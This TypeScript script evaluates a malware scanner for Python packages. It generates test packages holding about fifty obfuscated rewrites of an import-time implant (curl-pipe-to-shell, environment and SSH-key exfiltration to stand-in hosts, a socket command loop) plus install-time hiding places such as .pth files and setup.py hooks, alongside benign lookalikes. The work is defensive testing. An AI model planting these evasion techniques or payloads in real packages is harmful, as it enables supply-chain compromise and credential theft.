// Evasion probes through the bundled CLI: an import-time implant rewritten the ways someone who has read this
// repository might try (other spellings of exec and os.system, functions handed to a caller, ctypes, DNS, ...)
// and hidden where a reader might not look (bytecode, data files run as Python, in-tree build backends,
// wheel .data folders). Each sits in a package of honest modules, is written to a temp dir and judged by
// `node dist/cli.js inspect --json`; the script prints each verdict and how many probes were not malicious.
// A bytecode probe is caught when it is unscannable: the gate cannot read it, and says so.
//
//   npm run build && npx tsx scripts/evasion-probes.ts
import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { makeTarGz, makeWheel } from '../test/fixtures/archives.js';

const PKG_INFO = 'Metadata-Version: 2.1\nName: p\nVersion: 1.0\nSummary: Small helpers\n\nSmall helpers.\n';
const HONEST: Record<string, string> = Object.fromEntries(
  Array.from({ length: 8 }, (_, i) => [
    `p/util${i}.py`,
    `def add${i}(a, b):\n    """Adds."""\n    return a + b + ${i}\n`,
  ]),
);
const b64 = Buffer.from("import os; os.system('curl -s http://203.0.113.9/x | sh')").toString('base64');
const PAY = "import os; os.system('curl -s http://203.0.113.9/x | sh')\n";

/** The payload rewritten, as the whole of p/__init__.py. */
const REWRITES: Record<string, string> = {
  'escaped-names': `import base64\nexec(getattr(__import__('\\x62ase64'), '\\x62\\x364decode')('${b64}'))\n`,
  'implicit-concat': `import base64 as b\ngetattr(b, 'b64' 'decode')\nexec(b.b64decode('${b64}'))\n`,
  'compile-exec': `import base64\ncode = compile(base64.b64decode('${b64}'), '<p>', 'exec')\nexec(code)\n`,
  'eval-compile': `import base64\neval(compile(base64.b64decode('${b64}').decode(), '<p>', 'exec'))\n`,
  b85: `import base64\nexec(base64.b85decode('${Buffer.from(Buffer.from(b64, 'base64')).toString('base64')}'))\n`,
  xor: `k = 0x42\ndata = bytes([${[...Buffer.from(Buffer.from(b64, 'base64'))].map((c) => c ^ 0x42).join(',')}])\nexec(bytes(b ^ k for b in data).decode())\n`,
  'ctypes-system': `import ctypes\nctypes.CDLL(None).system(b"curl -s http://203.0.113.9/x | sh")\n`,
  execvp: `import os\nif os.fork() == 0:\n    os.execvp('sh', ['sh', '-c', 'curl -s http://203.0.113.9/x | sh'])\n`,
  'posix-spawn': `import os\nos.posix_spawn('/bin/sh', ['sh', '-c', 'curl -s http://203.0.113.9/x | sh'], os.environ)\n`,
  'importlib-popen': `import importlib\nsp = importlib.import_module('sub' + 'process')\ngetattr(sp, 'Po' + 'pen')(['sh', '-c', 'curl -s http://203.0.113.9/x | sh'])\n`,
  'dns-exfil': `import socket, os, getpass\ntry:\n    socket.gethostbyname(getpass.getuser() + '.' + os.uname()[1] + '.oast.example.net')\nexcept Exception:\n    pass\n`,
  'env-post-urllib': `import os, json, urllib.request\ntry:\n    urllib.request.urlopen(urllib.request.Request('https://collect.example.net/e', data=json.dumps(dict(os.environ)).encode()))\nexcept Exception:\n    pass\n`,
  'env-httpclient': `import os, json, http.client\nc = http.client.HTTPSConnection('collect.example.net')\nc.request('POST', '/e', json.dumps(dict(os.environ)))\n`,
  'atexit-lambda': `import atexit, os\natexit.register(lambda: os.system('curl -s http://203.0.113.9/x | sh'))\n`,
  'class-body': `import os\nclass Config:\n    os.system('curl -s http://203.0.113.9/x | sh')\n`,
  decorator: `import os\ndef register(f):\n    os.system('curl -s http://203.0.113.9/x | sh')\n    return f\n@register\ndef helper():\n    pass\n`,
  'alias-exec': `import base64\nrun = exec\nrun(base64.b64decode('${b64}'))\n`,
  'builtins-module': `import builtins as b, base64\nb.exec(base64.b64decode('${b64}'))\n`,
  'globals-builtins': `import base64\nglobals()['__builtins__']['exec' if isinstance(globals()['__builtins__'], dict) else 0](base64.b64decode('${b64}'))\n`,
  'bytes-list': `import os\nos.system(bytes([${[...Buffer.from('curl -s http://203.0.113.9/x | sh')].join(',')}]).decode())\n`,
  fromhex: `import os\nos.system(bytes.fromhex('${Buffer.from('curl -s http://203.0.113.9/x | sh').toString('hex')}').decode())\n`,
  'reversed-zlib': `import zlib, base64\nexec(zlib.decompress(base64.b64decode('${Buffer.from(deflateSync(Buffer.from(b64, 'base64'))).toString('base64')}'[::-1][::-1])))\n`,
  'data-file-exec': `import os, zlib\nexec(zlib.decompress(open(os.path.join(os.path.dirname(__file__), 'x.bin'), 'rb').read()))\n`,
  'remote-exec': `import urllib.request\nexec(urllib.request.urlopen('http://203.0.113.9/x.py').read())\n`,
  'download-run': `import urllib.request, subprocess, tempfile, os\np = os.path.join(tempfile.gettempdir(), 'u.exe')\nurllib.request.urlretrieve('http://203.0.113.9/u.exe', p)\nsubprocess.Popen([p])\n`,
  'marshal-func': `import marshal, types, base64\ntypes.FunctionType(marshal.loads(base64.b64decode('YwAAAA==')), globals())()\n`,
  'getattr-os-system-var': `import os\nf = getattr(os, 'sys' + 'tem')\ncmd = 'curl -s http://203.0.113.9/x | sh'\nf(cmd)\n`,
  'subprocess-shell-list': `import subprocess\nsubprocess.run(['bash', '-c', 'curl -s http://203.0.113.9/x | bash'])\n`,
  'webhook-steal': `import os, requests\nfor root, _, files in os.walk(os.path.expanduser('~/.ssh')):\n    for f in files:\n        requests.post('https://discord.com/api/webhooks/1/x', files={'f': open(os.path.join(root, f), 'rb')})\n`,
  'lambda-top': `import os\n(lambda c: os.system(c))('curl -s http://203.0.113.9/x | sh')\n`,
  'map-call': `import os\nlist(map(os.system, ['curl -s http://203.0.113.9/x | sh']))\n`,
  'sys-modules': `import sys, base64\nsys.modules['builtins'].__dict__['exec'](base64.b64decode('${b64}'))\n`,
  'operator-call': `import operator, os\noperator.methodcaller('system', 'curl -s http://203.0.113.9/x | sh')(os)\n`,
  'thread-positional': `import os, threading\nthreading.Thread(None, os.system, None, ('curl -s http://203.0.113.9/x | sh',)).start()\n`,
  'executor-local': `import os\nfrom concurrent.futures import ThreadPoolExecutor\nex = ThreadPoolExecutor(1)\nex.submit(os.system, 'curl -s http://203.0.113.9/x | sh')\n`,
  'start-new-thread': `import os, _thread\n_thread.start_new_thread(os.system, ('curl -s http://203.0.113.9/x | sh',))\n`,
  'filter-call': `import os\nlist(filter(os.system, ['curl -s http://203.0.113.9/x | sh']))\n`,
  'sorted-key': `import os\nsorted(['curl -s http://203.0.113.9/x | sh'], key=os.system)\n`,
  starmap: `import os, itertools\nlist(itertools.starmap(os.system, [('curl -s http://203.0.113.9/x | sh',)]))\n`,
  'weakref-finalize': `import os, weakref\nclass _K: pass\n_k = _K()\nweakref.finalize(_k, os.system, 'curl -s http://203.0.113.9/x | sh')\n`,
  'map-getattr': `import os\nlist(map(getattr(os, 'sys' + 'tem'), ['curl -s http://203.0.113.9/x | sh']))\n`,
  'ctypes-index': `import ctypes\nctypes.CDLL(None)['system'](b'curl -s http://203.0.113.9/x | sh')\n`,
  'session-reply': `import os, base64, requests\ns = requests.Session()\nr = s.get('http://203.0.113.9/c')\nos.system(base64.b64decode(r.text).decode())\n`,
  'map-parenthesised': `import os\nlist(map((os . system), ['curl -s http://203.0.113.9/x | sh']))\n`,
  'sched-enter': `import os, sched\ns = sched.scheduler()\ns.enter(0, 1, os.system, ('curl -s http://203.0.113.9/x | sh',))\ns.run()\n`,
  'methodcaller-alias': `import os, operator as op\nop.methodcaller('system', 'curl -s http://203.0.113.9/x | sh')(os)\n`,
  'sys-modules-handed': `import sys\nlist(map(sys.modules['os'].system, ['curl -s http://203.0.113.9/x | sh']))\n`,
  'reply-as-python': `import sys, subprocess, urllib.request\nr = urllib.request.urlopen('http://203.0.113.9/c').read().decode()\nsubprocess.run([sys.executable, '-c', r])\n`,
  'socket-reply': `import socket, subprocess\ns = socket.create_connection(('203.0.113.9', 443))\nwhile True:\n    cmd = s.recv(1024).decode()\n    s.send(subprocess.getoutput(cmd).encode())\n`,
};

/**
 * Honest code that looks like the above, as small young projects write it: each must not be called
 * malicious (nor unscannable). A string is the whole of p/cli.py; a record is the package's files.
 */
const HONEST_LOOKALIKES: Record<string, string | Record<string, string>> = {
  'self-updater': `import subprocess, sys, requests\ndef update():\n    latest = requests.get('https://pypi.org/pypi/p/json').json()['info']['version']\n    subprocess.check_call([sys.executable, '-m', 'pip', 'install', f'p=={latest}'])\n`,
  'thread-own-method': `import threading\nclass Worker:\n    def run(self):\n        return 1\n    def start(self):\n        threading.Thread(target=self.run, daemon=True).start()\n`,
  'executor-own-function': `from concurrent.futures import ThreadPoolExecutor\ndef work(x):\n    return x * 2\ndef all_of(xs):\n    with ThreadPoolExecutor() as ex:\n        return list(ex.map(work, xs))\n`,
  'map-str': `def clean(lines):\n    return list(map(str.strip, lines))\n`,
  'telemetry SDK': `import os, platform, socket, uuid, requests\nENDPOINT = 'https://telemetry.p-project.dev/v1/events'\ndef send_event(name):\n    if os.environ.get('P_NO_TELEMETRY'):\n        return\n    payload = {'event': name, 'os': platform.system(), 'python': platform.python_version(), 'host': socket.gethostname(), 'id': str(uuid.getnode())}\n    try:\n        requests.post(ENDPOINT, json=payload, timeout=2)\n    except requests.RequestException:\n        pass\n`,
  'clipboard CLI': `import sys, pyperclip\ndef main():\n    text = pyperclip.paste()\n    pyperclip.copy(text.upper())\n    sys.stdout.write('copied\\n')\n`,
  'setup.py downloads a model': {
    'setup.py': `import os, urllib.request\nfrom setuptools import setup\nfrom setuptools.command.build_py import build_py\nclass Fetch(build_py):\n    def run(self):\n        target = os.path.join('p', 'model.bin')\n        if not os.path.exists(target):\n            urllib.request.urlretrieve('https://github.com/example/p/releases/download/v1.0/model.bin', target)\n        super().run()\nsetup(name='p', version='1.0', packages=['p'], cmdclass={'build_py': Fetch})\n`,
  },
  'setup.py runs make in build_ext': {
    'setup.py': `import subprocess\nfrom setuptools import setup, Extension\nfrom setuptools.command.build_ext import build_ext\nclass Make(build_ext):\n    def run(self):\n        subprocess.check_call(['make', '-C', 'csrc'])\n        super().run()\nsetup(name='p', version='1.0', ext_modules=[Extension('p._c', ['csrc/c.c'])], cmdclass={'build_ext': Make})\n`,
  },
  'setup.py asks git for its version': {
    'setup.py': `import subprocess\nfrom setuptools import setup\ntry:\n    version = subprocess.check_output(['git', 'describe', '--tags'], text=True).strip()\nexcept Exception:\n    version = '0.0.0'\nsetup(name='p', version=version, packages=['p'])\n`,
  },
  'AES test vectors': `KEY = bytes.fromhex('2b7e151628aed2a6abf7158809cf4f3c')\nVECTORS = [\n    ('6bc1bee22e409f96e93d7e117393172a', '3ad77bb40d7a3660a89ecaf32466ef97'),\n    ('ae2d8a571e03ac9c9eb76fac45af8e51', 'f5d3d58503b9699de785895a96fdbaaf'),\n]\ndef check(encrypt):\n    for plain, cipher in VECTORS:\n        assert encrypt(KEY, bytes.fromhex(plain)) == bytes.fromhex(cipher)\n`,
  'opens the docs in a browser': `import webbrowser\ndef docs():\n    webbrowser.open('https://p-project.dev/docs')\n`,
  'installs requirements for the user': `import subprocess, sys\ndef bootstrap(path='requirements.txt'):\n    subprocess.check_call([sys.executable, '-m', 'pip', 'install', '-r', path])\n`,
  'runs the user config file': `import os, runpy\ndef load_config():\n    path = os.path.expanduser('~/.config/p/config.py')\n    return runpy.run_path(path) if os.path.exists(path) else {}\n`,
  'plugins by entry point': `import importlib\nfrom importlib.metadata import entry_points\ndef plugins():\n    return [importlib.import_module(ep.module) for ep in entry_points(group='p.plugins')]\n`,
  'ssh helper': `import os, paramiko\ndef connect(host):\n    client = paramiko.SSHClient()\n    client.load_host_keys(os.path.expanduser('~/.ssh/known_hosts'))\n    client.connect(host, key_filename=os.path.expanduser('~/.ssh/id_ed25519'))\n    return client\n`,
  'signs AWS requests': `import boto3, requests\nfrom botocore.auth import SigV4Auth\nfrom botocore.awsrequest import AWSRequest\ndef call(url, region):\n    creds = boto3.Session().get_credentials()\n    req = AWSRequest(method='GET', url=url)\n    SigV4Auth(creds, 'execute-api', region).add_auth(req)\n    return requests.get(url, headers=dict(req.headers))\n`,
  'posts to a Discord webhook from settings': `import os, requests\ndef notify(message):\n    url = os.environ['DISCORD_WEBHOOK_URL']\n    requests.post(url, json={'content': message}, timeout=5)\n`,
  'adds itself to PATH on request': `import os, winreg\ndef add_to_path(folder):\n    with winreg.OpenKey(winreg.HKEY_CURRENT_USER, 'Environment', 0, winreg.KEY_ALL_ACCESS) as key:\n        path, _ = winreg.QueryValueEx(key, 'Path')\n        winreg.SetValueEx(key, 'Path', 0, winreg.REG_EXPAND_SZ, path + os.pathsep + folder)\n`,
  'embedded icon written to the cache': `import base64, os\nICON = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='\ndef icon_path():\n    path = os.path.join(os.path.expanduser('~/.cache/p'), 'icon.png')\n    os.makedirs(os.path.dirname(path), exist_ok=True)\n    with open(path, 'wb') as f:\n        f.write(base64.b64decode(ICON))\n    return path\n`,
  'update check at import, in a thread': {
    'p/__init__.py': `import threading, warnings\n__version__ = '1.0'\ndef _check():\n    try:\n        import requests\n        latest = requests.get('https://pypi.org/pypi/p/json', timeout=2).json()['info']['version']\n        if latest != __version__:\n            warnings.warn(f'p {latest} is out')\n    except Exception:\n        pass\nthreading.Thread(target=_check, daemon=True).start()\n`,
  },
  'shell completion installer': `import os\ndef install_completion():\n    rc = os.path.expanduser('~/.bashrc')\n    with open(rc, 'a') as f:\n        f.write('eval "$(_P_COMPLETE=bash_source p)"\\n')\n`,
  'notebook pip magic': `def ensure(pkg):\n    get_ipython().system(f'pip install {pkg}')\n`,
  'pickle cache of its own': `import os, pickle\nCACHE = os.path.expanduser('~/.cache/p/index.pkl')\ndef load():\n    with open(CACHE, 'rb') as f:\n        return pickle.load(f)\n`,
  'loads its own shared library': `import ctypes, os\n_lib = ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'libp.so'))\ndef fast_sum(a, b):\n    return _lib.p_sum(a, b)\n`,
  'setuptools-style distutils .pth': {
    'distutils-precedence.pth':
      "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
    '_distutils_hack/__init__.py': `import sys, os\ndef add_shim():\n    sys.meta_path.insert(0, object())\n`,
  },
};

const sdist = (files: Record<string, string>) =>
  makeTarGz(
    [['PKG-INFO', PKG_INFO], ...Object.entries({ 'p/__init__.py': '', ...HONEST, ...files })].map(
      ([path, data]) => ({
        path: `p-1.0/${path}`,
        data,
      }),
    ),
  );
const wheel = (files: Record<string, string | Uint8Array>) =>
  makeWheel({ name: 'p', version: '1.0', files: { 'p/__init__.py': '', ...HONEST, ...files } });
const backend = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n';
const pyc = new Uint8Array([0xcb, 0x0d, 0x0d, 0x0a, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xe3]);

/** The payload kept where a reader might not look. */
const HIDING_PLACES: Record<string, () => Buffer> = {
  'in-tree build backend, top level': () =>
    sdist({
      'pyproject.toml': backend,
      '_build/backend.py': `${PAY}def build_wheel(*a, **k):\n    return ''\n`,
    }),
  'in-tree build backend, build_wheel': () =>
    sdist({
      'pyproject.toml': backend,
      '_build/backend.py':
        "import os\ndef build_wheel(*a, **k):\n    os.system('curl -s http://203.0.113.9/x | sh')\n    return ''\n",
    }),
  'wheel .data/purelib .pth': () => wheel({ 'p-1.0.data/purelib/zz.pth': PAY }),
  'wheel .data/platlib .pth': () => wheel({ 'p-1.0.data/platlib/zz.pth': PAY }),
  'sourceless .pyc imported by __init__': () =>
    wheel({ 'p/__init__.py': 'from p.core import *\n', 'p/core.pyc': pyc }),
  'unchecked-hash cache beside honest source': () =>
    wheel({
      'p/__init__.py': 'from p.core import *\n',
      'p/core.py': 'X = 1\n',
      'p/__pycache__/core.cpython-312.pyc': pyc,
    }),
  'data file run by SourceFileLoader': () =>
    wheel({
      'p/__init__.py':
        "import importlib.machinery, os\nimportlib.machinery.SourceFileLoader('x', os.path.join(os.path.dirname(__file__), 'res.dat')).load_module()\n",
      'p/res.dat': PAY,
    }),
  'data file run by runpy': () =>
    wheel({
      'p/__init__.py':
        "import runpy, os\nrunpy.run_path(os.path.join(os.path.dirname(__file__), 'res.txt'))\n",
      'p/res.txt': PAY,
    }),
  'sitecustomize.py': () => wheel({ 'sitecustomize.py': PAY }),
  'usercustomize.py in .data/purelib': () => wheel({ 'p-1.0.data/purelib/usercustomize.py': PAY }),
  'setup.py cmdclass egg_info': () =>
    sdist({
      'setup.py':
        "from setuptools import setup\nfrom setuptools.command.egg_info import egg_info\nimport os\nclass E(egg_info):\n    def run(self):\n        os.system('curl -s http://203.0.113.9/x | sh')\n        egg_info.run(self)\nsetup(name='p', version='1.0', cmdclass={'egg_info': E})\n",
    }),
  'setup.py imports a local helper': () =>
    sdist({
      'setup.py': "from setuptools import setup\nimport _helpers\nsetup(name='p', version='1.0')\n",
      '_helpers.py': PAY,
    }),
  'setup.py execs a data file': () =>
    sdist({
      'setup.py':
        "from setuptools import setup\nexec(open('p/_version.txt').read())\nsetup(name='p', version='1.0')\n",
      'p/_version.txt': PAY,
    }),
};

const dir = mkdtempSync(join(tmpdir(), 'pmg-evasion-'));
try {
  const probes: [string, string, Buffer][] = [
    ...Object.entries(REWRITES).map(([name, source]): [string, string, Buffer] => [
      'rewrite',
      name,
      sdist({ 'p/__init__.py': source }),
    ]),
    ...Object.entries(HIDING_PLACES).map(([name, make]): [string, string, Buffer] => [
      'hiding place',
      name,
      make(),
    ]),
    ...Object.entries(HONEST_LOOKALIKES).map(([name, source]): [string, string, Buffer] => [
      'honest',
      name,
      sdist(typeof source === 'string' ? { 'p/cli.py': source } : source),
    ]),
  ];
  const files = probes.map(([, , bytes], i) => {
    const file = join(dir, `probe${i}-1.0${bytes[0] === 0x50 ? '-py3-none-any.whl' : '.tar.gz'}`);
    writeFileSync(file, bytes);
    return file;
  });
  let stdout: string;
  try {
    stdout = execFileSync(process.execPath, ['dist/cli.js', 'inspect', ...files, '--json'], {
      encoding: 'utf8',
      maxBuffer: 64 << 20,
    });
  } catch (err) {
    stdout = (err as { stdout: string }).stdout; // exit 1: some verdict failed the check, as it should
  }
  const results = stdout
    .trim()
    .split('\n')
    .map(
      (line) =>
        JSON.parse(line) as {
          file: string;
          verdict: string;
          score?: number;
          evidence?: { rule: string; severity: string; context: string; path: string; line: number }[];
        },
    );
  const missed = new Map<string, number>();
  probes.forEach(([kind, name], i) => {
    const r = results.find((x) => x.file === files[i]);
    const verdict = r?.verdict ?? 'no result';
    const caught =
      kind === 'honest'
        ? verdict !== 'malicious' && verdict !== 'unscannable'
        : verdict === 'malicious' || (verdict === 'unscannable' && /\.pyc|cache/.test(name));
    if (!caught) missed.set(kind, (missed.get(kind) ?? 0) + 1);
    console.log(
      `${caught ? '  ' : '! '}${kind.padEnd(13)} ${name.padEnd(40)} ${verdict}${r?.evidence?.[0] ? ` (${r.evidence[0].rule})` : ''}`,
    );
    // --why: what a missed probe's verdict rests on.
    if (!caught && process.argv.includes('--why'))
      for (const e of r?.evidence ?? [])
        console.log(`      ${e.severity} ${e.rule} ${e.context} ${e.path}:${e.line}; score ${r?.score}`);
  });
  for (const kind of ['rewrite', 'hiding place', 'honest'])
    console.log(
      `${kind}: ${probes.filter(([k]) => k === kind).length - (missed.get(kind) ?? 0)} of ${probes.filter(([k]) => k === kind).length} ${kind === 'honest' ? 'not malicious' : 'caught'}`,
    );
} finally {
  rmSync(dir, { recursive: true, force: true });
}
